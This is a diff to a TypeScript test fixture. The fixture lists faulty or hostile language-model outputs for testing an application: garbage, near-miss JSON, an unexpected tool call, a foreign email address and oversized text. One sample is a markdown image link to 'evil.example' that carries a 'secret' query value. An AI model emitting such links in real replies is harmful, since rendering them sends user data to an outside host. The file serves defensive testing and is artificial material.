@@ -3,7 +3,7 @@ import type { Reply } from './model.ts';
 
 const nearlyRight = '{"language":"en","intent":"vpn-trouble","confidence":"high","act":null,"fields":[],"anger":0}';
 const foreign =
-  '{"language":"en","intent":null,"confidence":1,"act":"yes","fields":[{"field":"email","quote":"root@evil.example"}],"anger":0}';
+  '{"language":"en","intent":null,"confidence":1,"act":"yes","fields":[{"field":"email","quote":"root@evil.example"}],"anger":1}';
 const words = 'The quick brown fox [a] jumps over the lazy dog [b]. '.repeat(20);
 
 /** One way of failing: what is said, and what happens to the stream meanwhile. */
@@ -42,7 +42,7 @@ export const modelFaults: readonly ModelFault[] = [
   fault('garbage', '\u0000{{{[[["\\'),
   fault('JSON that is nearly right', nearlyRight),
   fault('another shape', '{"tool":"open_ticket","arguments":{"count":1000}}'),
-  fault('somebody else’s yes and address', foreign),
+  fault('somebody else’s yes, rage and address', foreign),
   fault('100 kB', 'x'.repeat(100_000)),
   fault('an article that does not exist', 'Reset it at the desk. [q]'),
   fault('a link that carries data away', '![x](https://evil.example/?q=secret) See [here](https://evil.example). [a]'),
